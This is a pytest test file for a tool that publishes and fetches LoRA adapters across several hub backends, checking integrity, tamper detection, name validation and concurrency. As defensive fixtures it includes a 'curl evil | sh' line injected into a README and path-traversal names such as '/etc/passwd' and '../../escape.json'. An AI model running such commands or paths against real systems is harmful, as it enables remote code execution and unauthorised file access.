"""skewtune.hub on local folders, file://, memory:// and a fake Hugging Face API; the `skewtune hub` CLI."""

from __future__ import annotations

import json
import multiprocessing
import shutil
import threading
import uuid
from pathlib import Path
from typing import Any

import pytest
from test_hub_support import LABELS, assert_one_line_error, cli, copy_adapter, make_fake_adapter, real_adapter

import skewtune.hub as hub
from skewtune.errors import AdapterError, HubError
from skewtune.hub import backends, names
from skewtune.hub.index import INDEX_FORMAT
from skewtune.utils.io import sha256_file


@pytest.fixture(autouse=True)
def _isolated_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SKEWTUNE_CACHE", str(tmp_path / "cache"))
    monkeypatch.delenv("SKEWTUNE_HUB", raising=False)


@pytest.fixture
def fake(tmp_path: Path) -> Path:
    return make_fake_adapter(tmp_path / "fake")


# --- round trip with a real peft adapter -----------------------------------------------------------

def test_round_trip_push_search_pull_load_with_peft(tmp_path: Path) -> None:
    import torch
    from peft import PeftModel
    from transformers import BertForSequenceClassification

    adapter, base = real_adapter()
    url = str(tmp_path / "hub")
    assert hub.push(adapter, url, "tweets-sentiment-tiny-lora", tags=["sentiment"]) == "tweets-sentiment-tiny-lora@v1"
    assert hub.push(adapter, url, "tweets-sentiment-tiny-lora") == "tweets-sentiment-tiny-lora@v2"

    rows = hub.ls(url)
    assert [(r["name"], r["latest"], r["versions"]) for r in rows] == [("tweets-sentiment-tiny-lora", 2, [1, 2])]
    assert rows[0]["labels"] == list(LABELS.values()) and rows[0]["metrics"]["eval_macro_f1"] == 0.8
    found = hub.search(url, base_model="tiny-bert", task="seq_cls", language="en",
                       labels=["positive", "negative", "neutral"], min_metric=("eval_macro_f1", 0.7))
    assert [r["ref"] for r in found] == ["tweets-sentiment-tiny-lora@v2"]
    assert [r["ref"] for r in hub.search(url, tag="sentiment", all_versions=True)] == ["tweets-sentiment-tiny-lora@v1"]

    pulled = hub.pull("tweets-sentiment-tiny-lora@v1", url)
    assert pulled.is_relative_to(tmp_path / "cache" / "hub") and pulled.name == "v1"
    assert "sentiment" in (pulled / "README.md").read_text() and "library_name: peft" in (pulled / "README.md").read_text()
    assert hub.pull("tweets-sentiment-tiny-lora@v1", url) == pulled  # verified cache hit
    assert hub.check_base_compatible(pulled, base) is True

    ids = torch.tensor([[2, 5, 7, 9, 3]])
    with torch.no_grad():
        want = PeftModel.from_pretrained(BertForSequenceClassification.from_pretrained(base), adapter).eval()(ids).logits
        got = PeftModel.from_pretrained(BertForSequenceClassification.from_pretrained(base), pulled).eval()(ids).logits
    assert got.shape == (1, 3) and torch.allclose(got, want)


def test_base_mismatch_refused_and_forced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    import torch
    from transformers import BertConfig, BertForSequenceClassification

    adapter, base = real_adapter()
    torch.manual_seed(1)
    other = tmp_path / "other-base"
    BertForSequenceClassification(BertConfig.from_pretrained(base)).save_pretrained(other)
    with pytest.raises(AdapterError) as err:
        hub.check_base_compatible(adapter, other)
    assert "tiny-bert" in err.value.message and str(other) in err.value.message
    with pytest.warns(UserWarning, match="mismatch"):
        assert hub.check_base_compatible(adapter, other, force=True) is False

    url = str(tmp_path / "hub")
    hub.push(adapter, url, "tiny")
    rc, _, err_text = cli(monkeypatch, capsys, "hub", "pull", "tiny", "--hub", url, "--base", str(other))
    assert_one_line_error(rc, err_text, "base-model mismatch", str(other))
    rc, out, _ = cli(monkeypatch, capsys, "hub", "pull", "tiny", "--hub", url, "--base", str(base))
    assert rc == 0 and Path(out.strip()).is_dir()
    with pytest.raises(AdapterError, match="no base-model fingerprint"):
        hub.check_base_compatible({"base_model": "x", "id2label": {}}, base)


# --- trust ----------------------------------------------------------------------------------------

def _flip_last_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[-1] ^= 0x01
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("tamper, message", [
    (lambda v: _flip_last_byte(v / "adapter_model.safetensors"), "adapter_model.safetensors changed"),
    (lambda v: (v / "README.md").write_text((v / "README.md").read_text() + "\nrun: curl evil | sh\n"), "README.md changed"),
    (lambda v: (v / "extra.txt").write_text("surprise"), "not in its manifest: extra.txt"),
    (lambda v: (v / "README.md").unlink(), "missing files"),
    (lambda v: (v / "skewtune.json").write_text((v / "skewtune.json").read_text().replace("0.8", "0.99")),
     "index recorded another manifest"),
])
def test_tampered_hub_copy_refused(tmp_path: Path, fake: Path, tamper: Any, message: str) -> None:
    url = tmp_path / "hub"
    hub.push(fake, str(url), "x")
    tamper(url / "x" / "v1")
    dest = tmp_path / "out" / "x"
    with pytest.raises(HubError, match=message.replace(".", r"\.")):
        hub.pull("x", str(url), dest)
    assert not dest.exists()
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())  # no temp folder left
    with pytest.raises(HubError):
        hub.verify("x@v1", str(url))


def test_tampered_local_copy_detected(tmp_path: Path, fake: Path) -> None:
    url = str(tmp_path / "hub")
    hub.push(fake, url, "x")
    pulled = hub.pull("x", url, tmp_path / "mine")
    assert hub.verify(pulled)["files"]
    _flip_last_byte(pulled / "adapter_model.safetensors")
    with pytest.raises(HubError, match="sha256 mismatch"):
        hub.verify(pulled)
    assert hub.pull("x", url, tmp_path / "mine", force=True) == tmp_path / "mine"
    assert hub.verify(tmp_path / "mine")
    (tmp_path / "mine" / "notes.txt").write_text("added")
    with pytest.raises(HubError, match="not in its manifest"):
        hub.verify(tmp_path / "mine")


def test_damaged_default_cache_is_repulled(tmp_path: Path, fake: Path) -> None:
    url = str(tmp_path / "hub")
    hub.push(fake, url, "x")
    pulled = hub.pull("x", url)
    _flip_last_byte(pulled / "adapter_model.safetensors")
    assert hub.pull("x", url) == pulled
    hub.verify(pulled)


@pytest.mark.parametrize("bad", ["../x", "a/../../b", "/etc/passwd", "Upper", "a..b", "http://evil.example/x",
                                 "x?y=1", "x#frag", "x%2f..", " x", "", "-x", "index.json", "a" * 65, "x\\y", "~x"])
def test_bad_names_refused(tmp_path: Path, fake: Path, bad: str) -> None:
    url = str(tmp_path / "hub")
    with pytest.raises(HubError, match="invalid adapter"):
        hub.push(fake, url, bad)
    with pytest.raises(HubError, match="invalid"):
        hub.pull(bad, url)
    assert not (tmp_path / "hub").exists()


@pytest.mark.parametrize("ref", ["x@v0", "x@v1@v2", "x@two", "x@-1"])
def test_bad_versions_refused(ref: str) -> None:
    with pytest.raises(HubError, match="invalid"):
        names.parse_ref(ref)


@pytest.mark.parametrize("rel", ["../evil.json", "/abs.json", "a/../b.json", ".hidden.json", "x.py", "w.bin",
                                 "w.pkl", "C:/x.json", "a\\b.json", "noext", "a//b.json"])
def test_unsafe_paths_refused(rel: str) -> None:
    with pytest.raises(HubError):
        names.validate_relpath(rel)


def test_malicious_manifest_paths_refused(tmp_path: Path, fake: Path) -> None:
    url = tmp_path / "hub"
    hub.push(fake, str(url), "x")
    version = url / "x" / "v1"
    manifest = json.loads((version / "skewtune.json").read_text())
    manifest["files"]["../../escape.json"] = "0" * 64
    (version / "skewtune.json").write_text(json.dumps(manifest))
    index = json.loads((url / "index.json").read_text())  # a hostile hub also rewrites its index
    index["adapters"]["x"]["versions"][0]["manifest_sha256"] = sha256_file(version / "skewtune.json")
    (url / "index.json").write_text(json.dumps(index))
    with pytest.raises(HubError, match="unsafe file path"):
        hub.pull("x", str(url), tmp_path / "dest")
    assert not (tmp_path / "dest").exists() and not (tmp_path / "escape.json").exists()


def test_pickle_or_code_in_adapter_refused(tmp_path: Path, fake: Path) -> None:
    bad = copy_adapter(fake, tmp_path / "bad")
    (bad / "adapter_model.safetensors").rename(bad / "adapter_model.bin")
    with pytest.raises(HubError, match="pickle"):
        hub.push(bad, str(tmp_path / "hub"), "x")
    bad2 = copy_adapter(fake, tmp_path / "bad2")
    (bad2 / "adapter_model.safetensors").write_bytes(b"\x00" * 64)
    from skewtune.adapters.io import write_manifest

    write_manifest(bad2, json.loads((bad2 / "skewtune.json").read_text()))
    with pytest.raises(HubError, match="not a safetensors file"):
        hub.push(bad2, str(tmp_path / "hub"), "x")
    assert not (tmp_path / "hub").exists()


# --- concurrency -----------------------------------------------------------------------------------

def test_ten_concurrent_push_processes_lose_nothing(tmp_path: Path, fake: Path) -> None:
    url = str(tmp_path / "hub")
    ctx = multiprocessing.get_context("spawn")
    procs = [ctx.Process(target=hub.push, args=(fake, url, "shared")) for _ in range(10)]
    for proc in procs:
        proc.start()
    for proc in procs:
        proc.join(120)
    assert [p.exitcode for p in procs] == [0] * 10
    index = json.loads((tmp_path / "hub" / "index.json").read_text())
    versions = index["adapters"]["shared"]["versions"]
    assert sorted(v["version"] for v in versions) == list(range(1, 11))
    assert {v["status"] for v in versions} == {"ready"} and not any("push_id" in v for v in versions)
    assert index["generation"] == 20  # one reserve + one finish per push
    assert sorted(p.name for p in (tmp_path / "hub" / "shared").iterdir()) == sorted(f"v{i}" for i in range(1, 11))
    assert hub.ls(url)[0]["versions"] == list(range(1, 11))
    hub.verify("shared@v7", url)


def test_first_push_racing_a_peer_is_not_refused_as_a_foreign_folder(
        tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # CI once failed the ten-process test: a push checked for index.json, then a peer finished its first push
    # (index.json, then shared/v1), then the push listed the folder, saw shared/ and refused the hub.
    root = tmp_path / "hub"
    hub.push(fake, str(root), "shared")
    (root / "index.json").rename(tmp_path / "parked.json")  # the state a racing pusher saw: no index yet
    real_iterdir = Path.iterdir
    peer_done = []

    def iterdir_while_peer_finishes(self: Path):  # type: ignore[no-untyped-def]
        if self == root and not peer_done:
            peer_done.append(True)
            (tmp_path / "parked.json").rename(root / "index.json")  # the peer's index lands before our listing
        return real_iterdir(self)

    monkeypatch.setattr(Path, "iterdir", iterdir_while_peer_finishes)
    hub.push(fake, str(root), "shared")
    assert peer_done and hub.ls(str(root))[0]["versions"] == [1, 2]


def test_memory_hub_round_trip_and_cas_journal(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import fsspec

    url = f"memory://hub-{uuid.uuid4().hex[:8]}"
    monkeypatch.setattr(backends, "JOURNAL_KEEP", 3)
    try:
        refs: list[str] = []
        threads = [threading.Thread(target=lambda: refs.append(hub.push(fake, url, "mem"))) for _ in range(6)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert sorted(refs) == sorted(f"mem@v{i}" for i in range(1, 7))
        assert hub.ls(url)[0]["versions"] == list(range(1, 7))
        fs = fsspec.filesystem("memory")
        root = url.removeprefix("memory://")
        journal = sorted(fs.ls(f"/{root}/.index", detail=False))
        assert 1 <= len(journal) <= 5 and journal[-1].endswith("g000000000012.json")  # pruned to the last few
        mirror = json.loads(fs.cat_file(f"/{root}/index.json"))
        assert mirror["format_version"] == INDEX_FORMAT and mirror["generation"] <= 12
        pulled = hub.pull("mem@v3", url, tmp_path / "m3")
        assert (pulled / "adapter_model.safetensors").read_bytes() == (fake / "adapter_model.safetensors").read_bytes()
        assert hub.info("mem", url)["manifest"]["id2label"] == LABELS
    finally:
        fsspec.filesystem("memory").rm(url.removeprefix("memory:/"), recursive=True)


def test_local_hub_via_file_url(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = f"file://{tmp_path / 'hub'}"
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")
    assert hub.push(fake, url, "f") == "f@v1"
    index = json.loads((tmp_path / "hub" / "index.json").read_text())
    assert index["updated_at"] == index["adapters"]["f"]["versions"][0]["pushed_at"] == "2026-01-01T00:00:00Z"
    assert hub.ls(str(tmp_path / "hub"))[0]["ref"] == "f@v1"
    assert (tmp_path / "hub" / ".index.lock").exists()
    assert hub.pull("f", url) == hub.pull("f", str(tmp_path / "hub"))  # same cache for both spellings


# --- index format migration -------------------------------------------------------------------------

def test_pull_from_format_1_index_and_push_upgrades(tmp_path: Path, fake: Path) -> None:
    root = tmp_path / "old-hub"
    shutil.copytree(fake, root / "legacy" / "v1")
    (root / "index.json").write_text(json.dumps({
        "format_version": 1,
        "updated_at": "2026-01-01T00:00:00Z",
        "adapters": [{"name": "legacy", "version": "v1", "base_model": "tiny-bert", "task_type": "seq_cls",
                      "languages": ["en"], "labels": list(LABELS.values()), "metrics": {"eval_macro_f1": 0.71}}],
    }))
    assert [r["ref"] for r in hub.ls(str(root))] == ["legacy@v1"]
    assert [r["ref"] for r in hub.search(str(root), min_metric=("eval_macro_f1", 0.7))] == ["legacy@v1"]
    pulled = hub.pull("legacy", str(root), tmp_path / "legacy")
    assert (pulled / "adapter_model.safetensors").is_file()
    assert hub.push(fake, str(root), "legacy") == "legacy@v2"
    index = json.loads((root / "index.json").read_text())
    assert index["format_version"] == INDEX_FORMAT and [v["version"] for v in index["adapters"]["legacy"]["versions"]] == [1, 2]
    hub.pull("legacy@v1", str(root), tmp_path / "again")


def test_newer_index_format_refused(tmp_path: Path) -> None:
    (tmp_path / "index.json").write_text(json.dumps({"format_version": 99, "adapters": {}}))
    with pytest.raises(HubError, match="newer than this skewtune"):
        hub.ls(str(tmp_path))


# --- CLI ------------------------------------------------------------------------------------------

def test_cli_happy_path(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch,
                        capsys: pytest.CaptureFixture[str]) -> None:
    url = str(tmp_path / "hub")
    rc, out, _ = cli(monkeypatch, capsys, "hub", "push", str(fake), "--hub", url, "--name", "cli-a", "--tag", "demo",
                     "--language", "en", "--language", "es")
    assert rc == 0 and "cli-a@v1" in out
    monkeypatch.setenv("SKEWTUNE_HUB", url)
    rc, out, _ = cli(monkeypatch, capsys, "hub", "ls")
    assert rc == 0 and "cli-a@v1" in out and "eval_macro_f1=0.8000" in out
    rc, out, _ = cli(monkeypatch, capsys, "hub", "search", "--language", "es", "--labels", "negative,neutral,positive",
                     "--min_metric", "eval_macro_f1=0.75", "--json")
    assert rc == 0 and [r["ref"] for r in json.loads(out)] == ["cli-a@v1"]
    rc, out, _ = cli(monkeypatch, capsys, "hub", "search", "--min_metric", "eval_macro_f1=0.9")
    assert rc == 0 and "(no adapters)" in out
    rc, out, _ = cli(monkeypatch, capsys, "hub", "info", "cli-a@v1", "--json")
    assert rc == 0 and json.loads(out)["manifest"]["languages"] == ["en", "es"]
    rc, out, _ = cli(monkeypatch, capsys, "hub", "info", "cli-a@v1")  # for people: a summary, not JSON
    assert rc == 0 and not out.startswith("{") and "base model  tiny-bert" in out
    assert "labels      negative, neutral, positive" in out and "languages   en, es" in out and "eval_macro_f1=0.8000" in out
    rc, out, _ = cli(monkeypatch, capsys, "hub", "pull", "cli-a", "--dest", str(tmp_path / "got"))
    assert rc == 0 and out.strip() == str(tmp_path / "got")
    rc, out, _ = cli(monkeypatch, capsys, "hub", "verify", str(tmp_path / "got"))
    assert rc == 0 and out.startswith("ok:")
    rc, out, _ = cli(monkeypatch, capsys, "hub", "verify", "cli-a@v1")
    assert rc == 0 and out.startswith("ok:")


def test_cli_bad_input_is_one_line_exit_2(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    url = str(tmp_path / "hub")
    hub.push(fake, url, "x")
    dest = tmp_path / "dest"
    cases = [
        (("hub", "ls", "--hub", "foo://bucket/hub"), ("unknown hub URL scheme 'foo://'",)),
        (("hub", "ls", "--hub", str(tmp_path / "nowhere")), ("no skewtune hub",)),
        (("hub", "ls"), ("no hub given", "SKEWTUNE_HUB")),
        (("hub", "ls", "--hub", "hf://org/with/path"), ("invalid Hugging Face hub URL",)),
        (("hub", "pull", "missing", "--hub", url, "--dest", str(dest)), ("no adapter 'missing'", "x")),
        (("hub", "pull", "x@v9", "--hub", url, "--dest", str(dest)), ("no version v9", "x@v1")),
        (("hub", "pull", "../etc", "--hub", url, "--dest", str(dest)), ("invalid adapter",)),
        (("hub", "info", "x@v9", "--hub", url), ("no version v9",)),
        (("hub", "search", "--min_metric", "f1>0.7", "--hub", url), ("invalid --min_metric",)),
        (("hub", "verify", "x"), ("neither an adapter folder",)),
    ]
    for argv, needles in cases:
        rc, _, err = cli(monkeypatch, capsys, *argv)
        assert_one_line_error(rc, err, *needles)
    no_weights = copy_adapter(fake, tmp_path / "no-weights")
    (no_weights / "adapter_model.safetensors").unlink()
    rc, _, err = cli(monkeypatch, capsys, "hub", "push", str(no_weights), "--hub", url, "--name", "y")
    assert_one_line_error(rc, err, "missing adapter_model.safetensors")
    (tmp_path / "hub" / "index.json").write_text('{"format_version": 2, "adapters": ')
    for argv in (("hub", "ls", "--hub", url), ("hub", "pull", "x", "--hub", url, "--dest", str(dest)),
                 ("hub", "push", str(fake), "--hub", url, "--name", "x")):
        rc, _, err = cli(monkeypatch, capsys, *argv)
        assert_one_line_error(rc, err, "index.json", "corrupt")
    assert (tmp_path / "hub" / "index.json").read_text() == '{"format_version": 2, "adapters": '  # untouched
    assert not dest.exists() and not (tmp_path / "hub" / "y").exists()
    not_a_hub = tmp_path / "home"
    (not_a_hub / "photos").mkdir(parents=True)
    rc, _, err = cli(monkeypatch, capsys, "hub", "push", str(fake), "--hub", str(not_a_hub), "--name", "x")
    assert_one_line_error(rc, err, "not a skewtune hub")


def test_corrupt_index_variants(tmp_path: Path) -> None:
    for text in ("[]", '{"format_version": 2, "adapters": {"../x": {"versions": []}}}',
                 '{"format_version": 2, "adapters": {"x": {"versions": [{"version": "v1"}]}}}', "\xff"):
        (tmp_path / "index.json").write_text(text, encoding="latin-1")
        with pytest.raises(HubError, match="corrupt"):
            hub.ls(str(tmp_path))


# --- Hugging Face Hub path (huggingface_hub API faked in memory: the Hub is unreachable here) --------

class _Commit:
    def __init__(self, oid: str) -> None:
        self.oid = oid
        self.sha = oid


class FakeHfApi:
    """The subset of ``huggingface_hub.HfApi`` that skewtune.hub calls, over in-memory git-like repos."""

    def __init__(self) -> None:
        self.repos: dict[str, list[tuple[str, dict[str, bytes]]]] = {}  # repo -> commits (oid, files)
        self.tags: dict[str, dict[str, str]] = {}
        self.conflicts = 0  # number of upcoming index commits to refuse with HTTP 412
        self.lock = threading.Lock()

    def _http_error(self, status: int, cls: type | None = None) -> Exception:
        import httpx2
        from huggingface_hub.errors import HfHubHTTPError

        response = httpx2.Response(status, request=httpx2.Request("POST", "https://huggingface.co/api"))
        return (cls or HfHubHTTPError)(f"HTTP {status}", response=response)

    def _files(self, repo: str, revision: str | None) -> dict[str, bytes]:
        from huggingface_hub.errors import RepositoryNotFoundError, RevisionNotFoundError

        if repo not in self.repos:
            raise self._http_error(404, RepositoryNotFoundError)
        commits = self.repos[repo]
        if revision in (None, "main"):
            return commits[-1][1]
        oid = self.tags.get(repo, {}).get(revision, revision)
        for commit_oid, files in commits:
            if commit_oid == oid:
                return files
        raise self._http_error(404, RevisionNotFoundError)

    def _commit(self, repo: str, files: dict[str, bytes]) -> _Commit:
        oid = uuid.uuid4().hex
        self.repos[repo].append((oid, files))
        return _Commit(oid)

    def create_repo(self, repo_id: str, *, repo_type: str | None = None, exist_ok: bool = False) -> None:
        with self.lock:
            if repo_id not in self.repos:
                self.repos[repo_id] = [(uuid.uuid4().hex, {".gitattributes": b"*.safetensors filter=lfs\n"})]

    def repo_info(self, repo_id: str, *, repo_type: str | None = None) -> _Commit:
        self._files(repo_id, None)
        return _Commit(self.repos[repo_id][-1][0])

    def hf_hub_download(self, repo_id: str, filename: str, *, repo_type: str | None = None,
                        revision: str | None = None, local_dir: str | None = None) -> str:
        from huggingface_hub.errors import EntryNotFoundError

        files = self._files(repo_id, revision)
        if filename not in files:
            raise EntryNotFoundError(filename)
        target = Path(local_dir or ".") / filename
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(files[filename])
        return str(target)

    def upload_file(self, *, path_or_fileobj: bytes, path_in_repo: str, repo_id: str, repo_type: str | None = None,
                    parent_commit: str | None = None, commit_message: str | None = None) -> _Commit:
        with self.lock:
            if self.conflicts or (parent_commit and parent_commit != self.repos[repo_id][-1][0]):
                self.conflicts = max(0, self.conflicts - 1)
                raise self._http_error(412)
            return self._commit(repo_id, {**self.repos[repo_id][-1][1], path_in_repo: path_or_fileobj})

    def upload_folder(self, *, repo_id: str, folder_path: str, delete_patterns: str | None = None,
                      commit_message: str | None = None) -> _Commit:
        with self.lock:
            kept = {k: v for k, v in self.repos[repo_id][-1][1].items() if k == ".gitattributes" or not delete_patterns}
            added = {p.relative_to(folder_path).as_posix(): p.read_bytes() for p in Path(folder_path).rglob("*") if p.is_file()}
            return self._commit(repo_id, {**kept, **added})

    def create_tag(self, repo_id: str, *, tag: str, revision: str) -> None:
        self.tags.setdefault(repo_id, {})[tag] = revision

    def delete_tag(self, repo_id: str, *, tag: str) -> None:
        self.tags.get(repo_id, {}).pop(tag, None)

    def list_repo_files(self, repo_id: str, *, revision: str | None = None) -> list[str]:
        return sorted(self._files(repo_id, revision))

    def snapshot_download(self, repo_id: str, *, revision: str | None = None, local_dir: str | None = None,
                          allow_patterns: list[str] | None = None) -> str:
        for name, data in self._files(repo_id, revision).items():
            if allow_patterns is None or name in allow_patterns:
                (Path(local_dir) / name).parent.mkdir(parents=True, exist_ok=True)
                (Path(local_dir) / name).write_bytes(data)
        return str(local_dir)


def test_hf_hub_layout_through_fake_api(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    api = FakeHfApi()
    monkeypatch.setattr(backends, "hf_api", lambda: api)
    with pytest.raises(HubError, match="no skewtune hub"):
        hub.ls("hf://team")
    assert hub.push(fake, "hf://team", "tweets-lora") == "tweets-lora@v1"
    api.conflicts = 2  # two concurrent commits got in first: the index update retries
    second = copy_adapter(fake, tmp_path / "second")
    (second / "notes.txt").write_text("v2 notes")
    from skewtune.adapters.io import write_manifest

    write_manifest(second, json.loads((second / "skewtune.json").read_text()))
    assert hub.push(second, "hf://team", "tweets-lora") == "tweets-lora@v2"
    # adapter files at the repo root (PeftModel.from_pretrained("team/tweets-lora") layout), one tag per version
    assert set(api.tags["team/tweets-lora"]) == {"v1", "v2"}
    assert set(api._files("team/tweets-lora", "v1")) == {".gitattributes", "adapter_config.json",
                                                          "adapter_model.safetensors", "README.md", "skewtune.json"}
    assert "notes.txt" in api._files("team/tweets-lora", "main")
    assert hub.ls("hf://team")[0]["versions"] == [1, 2]
    v1 = hub.pull("tweets-lora@v1", "hf://team", tmp_path / "v1")
    assert not (v1 / "notes.txt").exists() and not (v1 / ".gitattributes").exists()
    assert (hub.pull("tweets-lora", "hf://team", tmp_path / "v2") / "notes.txt").read_text() == "v2 notes"
    assert json.loads(api._files("team/skewtune-index", None)["index.json"])["generation"] == 4
    api.repos["team/tweets-lora"][-1][1]["README.md"] += b"tampered"
    with pytest.raises(HubError, match="README.md changed"):
        hub.pull("tweets-lora@v2", "hf://team", tmp_path / "v2b")


def test_failed_upload_leaves_no_visible_version(tmp_path: Path, fake: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    url = str(tmp_path / "hub")

    def broken(self: Any, name: str, version: int, folder: Path) -> None:
        raise HubError("upload interrupted", "retry")

    working = backends.FsspecBackend.put_version
    monkeypatch.setattr(backends.FsspecBackend, "put_version", broken)
    with pytest.raises(HubError, match="upload interrupted"):
        hub.push(fake, url, "x")
    monkeypatch.setattr(backends.FsspecBackend, "put_version", working)
    with pytest.raises(HubError, match="no adapter 'x'"):
        hub.pull("x", url)
    assert hub.push(fake, url, "x") == "x@v2"  # numbers are never reused
    statuses = [v["status"] for v in json.loads((tmp_path / "hub" / "index.json").read_text())["adapters"]["x"]["versions"]]
    assert statuses == ["failed", "ready"]


def test_cas_detects_a_pruned_parent(fake: Path) -> None:
    import fsspec

    from skewtune.hub.index import reserve

    url = f"memory://cas-{uuid.uuid4().hex[:8]}"
    try:
        hub.push(fake, url, "a")  # generations 1 and 2
        backend = backends.open_hub(url)
        fs, root = fsspec.filesystem("memory"), url.removeprefix("memory:/")
        stale_raw = fs.cat_file(f"{root}/.index/g000000000001.json")
        fs.rm_file(f"{root}/.index/g000000000001.json")  # pruned while a slow writer held generation 1
        real_read, calls = backend._read_remote, []

        def slow_then_real() -> tuple[Any, int, bytes | None]:
            calls.append(1)
            return (json.loads(stale_raw), 1, stale_raw) if len(calls) == 1 else real_read()

        backend._read_remote = slow_then_real  # type: ignore[method-assign]
        fs.rm_file(f"{root}/.index/g000000000002.json")  # so the stale writer's exclusive create succeeds
        fs.pipe_file(f"{root}/.index/g000000000003.json", fs.cat_file(f"{root}/index.json").replace(b'"generation": 2', b'"generation": 3'))
        new = backend.update_index(lambda i: reserve(i, "b", "push-b"))
        assert len(calls) == 2 and new["generation"] == 4 and "a" in new["adapters"] and "b" in new["adapters"]
        assert not fs.exists(f"{root}/.index/g000000000002.json")  # the stale entry was withdrawn
    finally:
        fsspec.filesystem("memory").rm(url.removeprefix("memory:/"), recursive=True)
